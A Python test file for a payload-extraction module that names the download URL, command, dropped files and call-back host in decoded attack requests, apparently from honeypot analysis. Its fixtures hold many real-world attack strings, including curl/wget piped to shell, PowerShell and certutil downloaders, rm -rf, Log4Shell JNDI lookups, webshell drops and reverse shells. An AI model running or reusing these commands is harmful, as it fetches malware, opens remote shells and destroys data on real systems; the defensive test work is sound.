"""What a decoded request would do is named: address, command, files, call-back host."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kanaria.mining.payload_extract import COMMAND_LIMIT, callback, command, download_url, dropped


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/?c=curl -s http://198.51.100.9/x.sh|sh", "http://198.51.100.9/x.sh"),
        ("cd /tmp;wget -q -O /tmp/a http://198.51.100.9:8080/a;sh /tmp/a", "http://198.51.100.9:8080/a"),
        (
            "(curl -s 198.51.100.9:5874/203.0.113.1:80||wget -q -O- 198.51.100.9:5874/x)|bash",
            "198.51.100.9:5874/203.0.113.1:80",
        ),
        ("curl miner.example/setup.sh | bash -s 4wallet", "miner.example/setup.sh"),
        ("IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.9/x.ps1')", "http://198.51.100.9/x.ps1"),
        ("certutil.exe -urlcache -split -f https://example.com/x.exe c:/x.exe", "https://example.com/x.exe"),
        ("bitsadmin /transfer j http://198.51.100.9/x.exe c:\\x.exe", "http://198.51.100.9/x.exe"),
        ("python3 -c \"import urllib;urllib.urlopen('http://198.51.100.9/p')\"", "http://198.51.100.9/p"),
        ("wget http://%s:%d/Mozi.m -O -> /tmp/Mozi.m", "http://%s:%d/Mozi.m"),
        ("tftp -g -r x.arm 198.51.100.9", "198.51.100.9"),
        ('handle=ClassPathXmlApplicationContext("http://198.51.100.9/b.xml")', "http://198.51.100.9/b.xml"),
        ("/docs/curl-options.html", None),
        ("/?c=id", None),
    ],
)
def test_the_address_that_would_be_fetched(text: str, expected: str | None) -> None:
    assert download_url(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/?c=curl -s http://198.51.100.9/x|sh", "curl -s http://198.51.100.9/x|sh"),
        (
            "/cgi-bin/a?x=cd /tmp;rm -rf *;wget http://198.51.100.9/a;sh a",
            "cd /tmp;rm -rf *;wget http://198.51.100.9/a;sh a",
        ),
        (
            '{"Cmd":["chroot","/mnt","/bin/sh","-c","curl -s http://198.51.100.9/x|sh"]}',
            "curl -s http://198.51.100.9/x|sh",
        ),
        ('() { :;}; /bin/bash -c "wget http://198.51.100.9/a"', "wget http://198.51.100.9/a"),
        ("getRuntime().exec('touch x')", "touch x"),
        ("/?vars[0]=system&vars[1][]=whoami&x=1", "whoami"),
        ("<string>curl http://198.51.100.9/x</string></void>", "curl http://198.51.100.9/x"),
        ("/a?b=1\nid>/tmp/x;curl http://198.51.100.9/x", "id>/tmp/x;curl http://198.51.100.9/x"),
        ("x=1&vars[1][]='wget http://198.51.100.9/a && ./a &'", "wget http://198.51.100.9/a && ./a"),
        ("/x.php?c=curl http://198.51.100.9/z.sh | nohup bash &", "curl http://198.51.100.9/z.sh | nohup bash"),
        ("/index.html", None),
    ],
)
def test_the_command_is_readable(text: str, expected: str | None) -> None:
    assert command(text) == expected


def test_the_most_decoded_reading_of_a_command_wins() -> None:
    assert command("/?c=w'g'et http://198.51.100.9/a\n/?c=wget http://198.51.100.9/a") == "wget http://198.51.100.9/a"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("wget http://198.51.100.9/a -O /tmp/.x;chmod 777 /tmp/.x", "/tmp/.x"),
        ("curl -o kdevtmpfsi http://198.51.100.9/k; chmod +x kdevtmpfsi", "kdevtmpfsi"),
        ("echo x > /var/www/html/a.php", "/var/www/html/a.php"),
        ("echo x>shell.jsp", "shell.jsp"),
        ("&function=call_user_func_array&vars[0]=file_put_contents&vars[1][]=up.php&vars[1][]=x", "up.php"),
        ("aa';wget http://198.51.100.9/i.sh -O -> /tmp/kh;sh /tmp/kh'$", "/tmp/kh"),
        ("file_put_contents('up.php', $_GET[1])", "up.php"),
        ('Content-Disposition: form-data; filename="a.php"', "a.php"),
        ("Invoke-WebRequest http://198.51.100.9/x -OutFile C:\\x.exe", "C:\\x.exe"),
        ("wget -q -O - http://198.51.100.9/x | sh > /dev/null 2>&1", None),
        ("<b>bold</b>", None),
        ("a->b(1)", None),
    ],
)
def test_files_left_behind(text: str, expected: str | None) -> None:
    assert dropped(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("${jndi:ldap://198.51.100.7:1389/a}", "198.51.100.7:1389"),
        ("${jndi:rmi://call.example/a}", "call.example"),
        ("${jndi:dns://x.example.com}", "x.example.com"),
        ("${jndi:ldap://${java:version}.c1.oast.me/a}", "${java:version}.c1.oast.me"),
        ("nslookup abc123.oast.fun", "abc123.oast.fun"),
        ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "198.51.100.9:4444"),
        ("nc -e /bin/sh 198.51.100.9 4444", "198.51.100.9:4444"),
        ("/?q=jndi", None),
    ],
)
def test_the_host_called_back(text: str, expected: str | None) -> None:
    assert callback(text) == expected


@settings(max_examples=80, deadline=None)
@given(
    st.text(max_size=300), st.sampled_from(["curl ", "wget -O ", "${jndi:ldap://", "> /tmp/", 'sh -c "', "/dev/tcp/"])
)
def test_hostile_text_yields_bounded_values_or_none(text: str, marker: str) -> None:
    for extract in (download_url, command, dropped, callback):
        value = extract(marker + text)
        assert value is None or 0 < len(value) <= max(COMMAND_LIMIT, 8 * 121)
